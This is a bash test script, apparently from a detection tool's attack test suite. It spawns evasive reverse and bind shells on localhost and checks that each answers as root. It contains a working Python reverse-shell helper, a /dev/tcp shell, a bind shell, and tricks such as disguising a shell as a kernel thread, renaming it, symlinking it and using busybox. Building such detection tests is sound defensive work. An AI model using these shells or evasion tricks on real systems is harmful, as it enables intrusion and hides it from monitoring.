#!/usr/bin/env bash
# The same with what a rule might lean on changed: a renamed copy of the shell under a kernel thread's name, a renamed
# copy elsewhere that is asked to be interactive, a relative path through a symbolic link, busybox, and a bind shell.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 4 &
operator=$!
wait_for "$work/port"

cat >"$work/reverse.py" <<'PYTHON'
import os, socket, sys
port, program, *arguments = sys.argv[1:]
connection = socket.create_connection(("127.0.0.1", int(port)))
for descriptor in range(3):
    os.dup2(connection.fileno(), descriptor)
os.execv(program, arguments)
PYTHON
own_folder /mnt
cp "$(readlink -f /bin/sh)" "$work/kworker"
cp "$(readlink -f /bin/bash)" /mnt/agent
ln -s /bin/bash "$work/editor"
port=$(<"$work/port")
python3 "$work/reverse.py" "$port" "$work/kworker" '[kworker/0:1]'
python3 "$work/reverse.py" "$port" /mnt/agent agent --norc -i
bash -c "exec 3<>/dev/tcp/127.0.0.1/$port; cd '$work'; exec ./editor <&3 >&3"
python3 "$work/reverse.py" "$port" "$(command -v busybox)" busybox sh
wait "$operator"
[[ $(grep -c 'uid=0' "$work/answers") = 4 ]] || fail "not every shell answered"

cat >"$work/bind.py" <<'PYTHON'
import os, signal, socket, sys
signal.alarm(30)
with socket.create_server(("127.0.0.1", 0)) as server:
    with open(sys.argv[1] + ".new", "w") as file:
        file.write(str(server.getsockname()[1]))
    os.rename(sys.argv[1] + ".new", sys.argv[1])
    connection, _ = server.accept()
    os.dup2(connection.fileno(), 0)
    os.dup2(connection.fileno(), 1)
    os.execv("/bin/bash", ["/bin/bash", "--norc"])
PYTHON
python3 "$work/bind.py" "$work/bind-port" &
wait_for "$work/bind-port"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$(<"$work/bind-port"); echo 'id; exit' >&3; cat <&3" | says uid=0 ||
    fail "the bind shell did not answer"
wait
